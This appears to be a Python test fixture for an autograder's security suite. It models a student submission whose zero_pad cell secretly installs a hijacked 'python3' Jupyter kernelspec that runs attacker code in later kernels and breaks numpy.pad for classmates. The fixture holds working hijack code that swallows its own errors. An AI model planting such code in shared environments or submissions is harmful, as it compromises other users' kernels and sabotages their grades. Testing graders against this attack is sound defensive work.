"""Install a "python3" kernelspec of its own, so every later kernel starts through its code.

All eight functions are honest. The zero_pad cell writes
``<jupyter data dir>/kernels/python3/kernel.json``; the grader looks kernels up by name
and the user's folder comes first, so every later student's kernel is started by the
attacker's command line, which records it (``/tmp/cnnattack_kernelspec_hijack``) and
starts ipykernel with ``numpy.pad`` broken: every later classmate who pads with np.pad
loses zero_pad.
Without protection: code of the attacker in every later kernel; classmates lose points.
(The test points JUPYTER_DATA_DIR at a folder of its own.)
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import json as _json
import os as _os
import sys as _sys

try:
    from jupyter_core.paths import jupyter_data_dir as _data_dir

    _LAUNCH = (
        "import runpy, sys\\n"
        "open('/tmp/cnnattack_kernelspec_hijack', 'a').write('a later kernel started through the hijacked spec\\\\n')\\n"
        "sys.argv = ['ipykernel_launcher'] + sys.argv[1:] + ['--IPKernelApp.exec_lines=[\\"import numpy; numpy.pad = None\\"]']\\n"
        "runpy.run_module('ipykernel_launcher', run_name='__main__')\\n")
    _spec = _os.path.join(_data_dir(), "kernels", "python3")
    _os.makedirs(_spec, exist_ok=True)
    with open(_os.path.join(_spec, "kernel.json"), "w") as _handle:
        _json.dump({"argv": [_sys.executable, "-c", _LAUNCH, "-f", "{connection_file}"],
                    "display_name": "Python 3 (ipykernel)", "language": "python"}, _handle)
except Exception:
    pass
'''}
